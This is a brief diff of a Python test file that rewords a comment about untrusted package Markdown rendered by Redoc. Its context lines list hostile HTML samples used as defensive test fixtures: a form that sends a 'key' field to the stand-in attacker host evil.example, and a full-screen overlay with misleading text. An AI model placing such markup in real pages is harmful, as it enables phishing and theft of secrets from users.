@@ -241,7 +241,7 @@ def test_no_text_of_a_package_ends_the_pages_code(package: Path, tmp_path: Path)
     assert shown == document
 
 
-# What a stranger's package may say in the Markdown that Redoc draws; DOMPurify keeps all of it.
+# What an untrusted package may contain in the Markdown that Redoc renders; DOMPurify keeps all of it.
 ACTIVE = (
     '<form action="https://evil.example"><input name="key"><button>Send</button></form>',
     '<div style="position:fixed;inset:0;background:red">All is well</div>',
